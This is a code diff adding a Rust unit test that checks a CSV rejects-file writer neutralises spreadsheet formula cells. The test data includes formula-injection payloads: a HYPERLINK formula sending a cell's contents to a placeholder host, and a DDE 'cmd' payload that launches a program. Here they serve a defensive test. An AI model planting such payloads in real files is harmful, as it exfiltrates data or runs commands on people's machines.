@@ -129,3 +129,31 @@ fn a_file_cut_short_inside_its_last_row_rejects_that_row_and_keeps_the_rest() {
     assert_eq!(r.field, "fatalities");
     assert!(r.reason.contains("cut short"), "{}", r.reason);
 }
+
+#[test]
+fn a_rejects_file_neutralises_formula_cells_and_keeps_numbers() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("r.rejects.csv");
+    let header: Vec<String> =
+        ["notes", "actor1", "actor2", "source", "latitude", "longitude", "phone"].map(String::from).to_vec();
+    let record = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "@SUM(1+1)", "-2+3", "+cmd|' /C calc'!A0"]
+        .into_iter()
+        .chain(["-5.2", "+18.3", "+23672000002"])
+        .map(String::from)
+        .collect();
+    let reject = vitalcore_import::Reject {
+        file: "f.csv".into(),
+        line: 2,
+        field: "=field".into(),
+        reason: "-reason".into(),
+        record,
+    };
+    write_rejects(&path, &header, &[reject]).unwrap();
+    let text = std::fs::read_to_string(&path).unwrap();
+    let row = text.lines().nth(1).unwrap();
+    assert_eq!(
+        row,
+        "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",'@SUM(1+1),'-2+3,'+cmd|' /C calc'!A0,\
+         -5.2,+18.3,+23672000002,2,'=field,'-reason"
+    );
+}
